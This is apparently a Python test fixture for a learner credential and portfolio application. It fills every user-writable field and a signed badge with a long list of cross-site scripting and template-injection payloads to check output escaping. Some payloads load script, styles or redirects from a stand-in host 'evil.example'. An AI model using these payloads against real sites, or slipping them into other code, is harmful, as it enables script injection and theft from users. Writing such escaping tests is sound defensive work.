"""Words that would act if a page took them for markup, wherever a stranger or a learner can write."""

from __future__ import annotations

from typing import Any

from sqlalchemy.orm import Session

from tests.smith.issuer import Issuer
from wallet.store.models.account import Account
from wallet.store.models.advising import Comment
from wallet.store.models.course_guide import Description
from wallet.store.models.entry import Evidence, OwnEntry
from wallet.store.models.path import Path, Step
from wallet.store.models.portfolio import Portfolio, PortfolioItem, PortfolioSection

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(2)</script/x>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script>alert(4)//",
    '"><script>alert(5)</script>',
    "'><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "</title><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "</textarea><script>alert(10)</script>",
    "--><script>alert(11)</script>",
    "]]><script>alert(12)</script>",
    '"><img src=x onerror=alert(13)>',
    "<img src=x:x onerror='alert(14)'>",
    "<img/src/onerror=alert(15)>",
    "<IMG SRC=javascript:alert(16)>",
    "<img src='https://track.example/p.gif'>",
    "<img srcset='x' onload=alert(17)>",
    "'><svg/onload=alert(18)>",
    "<svg><script>alert(19)</script></svg>",
    "<svg><animate onbegin=alert(20) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(21)><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(22)></foreignObject></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(23)>",
    "<math href=javascript:alert(24)>x</math>",
    "<iframe srcdoc='<script>alert(25)</script>'>",
    "<iframe src=javascript:alert(26)></iframe>",
    "<object data='data:text/html,<script>alert(27)</script>'>",
    "<embed src=javascript:alert(28)>",
    "<body onload=alert(29)>",
    "<details open ontoggle=alert(30)>x",
    "<video><source onerror=alert(31)></video>",
    "<audio src=x onerror=alert(32)>",
    "<input autofocus onfocus=alert(33)>",
    "<select autofocus onfocus=alert(34)>",
    "<marquee onstart=alert(35)>x</marquee>",
    "<form action=javascript:alert(36)><button>x</button></form>",
    "<button formaction=javascript:alert(37)>x</button>",
    "<a href=javascript:alert(38)>x</a>",
    "<a href='java&#9;script:alert(39)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><script>alert(40)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(41)>'>",
    "<b style='position:fixed' onmouseover=alert(42)>x</b>",
    "\u202e<b onmouseover=alert(43)>",
    '" onfocus=alert(44) autofocus x="',
    "' onmouseover=alert(45) x='",
    "` onerror=alert(46) x=`",
    "&lt;script&gt;alert(47)&lt;/script&gt;",
    "&#60;script&#62;alert(48)&#60;/script&#62;",
    "%3Cscript%3Ealert(49)%3C/script%3E",
    "\\u003cscript\\u003ealert(50)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(51)\uff1c/script\uff1e",
    "javascript:alert(52)",
    "[x](javascript:alert(53))",
    "![x](https://track.example/p.gif)",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{% raw %}{{config}}{% endraw %}",
    "%(secret)s %s %n",
    "{0.__class__.__init__.__globals__}",
)
ALL = " \u00b7 ".join(PAYLOADS)  # one text with everything; and each opens and closes what it likes


def hostile_badge(issuer: Issuer) -> bytes:
    """Signed, and holding: every text in it is `ALL`, every address one that would run a script."""
    run = "javascript:alert(60)"
    credential = issuer.credential(
        name=ALL,
        description=ALL,
        issuer={
            "id": issuer.id,
            "type": ["Profile"],
            "name": ALL,
            "url": run,
            "description": ALL,
            "email": ALL,
        },
        evidence=[{"id": run, "type": ["Evidence"], "name": ALL, "narrative": ALL, "description": ALL}],
    )
    alignment = {
        "type": ["Alignment"],
        "targetName": ALL,
        "targetUrl": run,
        "targetDescription": ALL,
        "targetFramework": ALL,
        "targetCode": ALL,
    }
    credential["credentialSubject"] |= {
        "name": ALL,
        "result": [{"type": ["Result"], "value": ALL, "status": "Completed"}],
        "achievement": {
            "id": run,
            "type": ["Achievement"],
            "name": ALL,
            "description": ALL,
            "criteria": {"id": run, "narrative": ALL},
            "humanCode": ALL,
            "fieldOfStudy": ALL,
            "specialization": ALL,
            "tag": [ALL, *PAYLOADS],
            "alignment": [alignment],
            "image": {"id": "data:image/svg+xml,<svg onload=alert(61)>", "type": "Image", "caption": ALL},
        },
    }
    return issuer.sign_jwt(credential).encode()


def write_everywhere(session: Session, holder: str, badge: str) -> dict[str, str]:
    """What a hostile learner could have written, past every form. The ids of what there is now."""
    session.get_one(Account, holder).name = ALL
    entry = OwnEntry(
        account_id=holder, kind="project", title=ALL, organisation=ALL, description=ALL,
        details={"outcomes": [ALL]},
    )  # fmt: skip
    portfolio = Portfolio(
        account_id=holder, title=ALL, language="en", audience="employer", display_name=ALL, headline=ALL,
        contact=ALL,
    )  # fmt: skip
    path = Path(
        account_id=holder, title=ALL, goal="reskilling", target_label=ALL, next_action=ALL,
        next_action_on="2027-01-01", closing_terms=ALL, current_occupation=ALL,
    )  # fmt: skip
    described = Description(account_id=holder, title=ALL, content={"title": ALL, "outcomes": ALL})
    session.add_all([entry, portfolio, path, described])
    session.flush()
    written: dict[str, Any] = {"kind": "link", "words": ALL, "name": ALL}
    pieces = [
        Evidence(account_id=holder, entry_id=entry.id, url="javascript:alert(62)", **written),
        Evidence(account_id=holder, entry_id=entry.id, **{**written, "kind": "text"}),
    ]
    section = PortfolioSection(
        portfolio_id=portfolio.id, position=0, kind="credentials", title=ALL, claim=ALL, words=ALL
    )
    step = Step(
        path_id=path.id,
        position=0,
        title=ALL,
        description=ALL,
        rule={"type": "manual", "key": "k", "label": ALL},
    )
    session.add_all([*pieces, section, step])
    session.flush()
    for place, thing in enumerate(({"credential_id": badge}, {"entry_id": entry.id}, {"skill": ALL})):
        shown = {"section_id": section.id, "position": place, "caption": ALL, "reflection": ALL}
        session.add(PortfolioItem(**shown, **thing))
    session.add(Comment(path_id=path.id, step_id=step.id, author_id=holder, author_name=ALL, words=ALL))
    return {"entry": entry.id, "portfolio": portfolio.id, "path": path.id, "description": described.id}
